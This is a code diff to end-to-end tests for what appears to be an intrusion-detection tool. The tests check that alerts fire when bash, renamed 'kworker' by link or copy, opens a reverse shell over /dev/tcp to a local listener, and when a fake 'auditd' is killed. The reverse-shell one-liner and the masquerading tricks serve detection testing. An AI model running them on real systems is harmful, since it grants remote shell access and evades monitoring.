@@ -197,10 +197,20 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     }
   };
 
+  /** `program` under another `name` in a folder of its own: a symbolic link to it, or a copy. */
+  const renamed = (program: string, name: string, how: 'link' | 'copy'): string => {
+    const file = path.join(mkdtempSync(path.join(dir, `${how}-`)), name);
+    if (how === 'link') symlinkSync(program, file);
+    else {
+      copyFileSync(program, file);
+      chmodSync(file, 0o755);
+    }
+    return file;
+  };
+
   it('bash linked under another name, reading a socket, raises the reverse shell alert', async () => {
     const since = new Date().toISOString();
-    const link = path.join(mkdtempSync(path.join(dir, 'link-')), 'kworker');
-    symlinkSync('/bin/bash', link);
+    const link = renamed('/bin/bash', 'kworker', 'link');
     await withShellListener((port) => `${link} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
     // The shell itself (its comm kworker, its executable bash), not only its launcher's command line.
     const alert = await waitForAlert('reverse_shell_socket_stdio for the linked bash', since, (a) => a.rule.id === 'reverse_shell_socket_stdio' && mentions(a, link));
@@ -209,9 +219,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
 
   it('bash copied to a temporary folder under another name, reading a socket, raises an alert', async () => {
     const since = new Date().toISOString();
-    const copy = path.join(mkdtempSync(path.join(dir, 'copy-')), 'kworker');
-    copyFileSync('/bin/bash', copy);
-    chmodSync(copy, 0o755);
+    const copy = renamed('/bin/bash', 'kworker', 'copy');
     await withShellListener((port) => `${copy} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
     const alert = await waitForAlert('socket_stdio_program_from_writable_folder for the copy', since, (a) => a.rule.id === 'socket_stdio_program_from_writable_folder' && mentions(a, copy));
     assert.equal(alert.rule.severity, 'high');
@@ -220,9 +228,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
   it('a process named auditd killed by SIGKILL raises an alert', async () => {
     const since = new Date().toISOString();
     // A program called auditd (a copy of sleep): the exit event carries its comm and exit code.
-    const auditd = path.join(mkdtempSync(path.join(dir, 'auditd-')), 'auditd');
-    copyFileSync('/bin/sleep', auditd);
-    chmodSync(auditd, 0o755);
+    const auditd = renamed('/bin/sleep', 'auditd', 'copy');
     const daemon = spawn(auditd, ['60'], { stdio: 'ignore' });
     const gone = new Promise((resolve) => daemon.on('close', resolve));
     await new Promise((resolve) => setTimeout(resolve, 300));
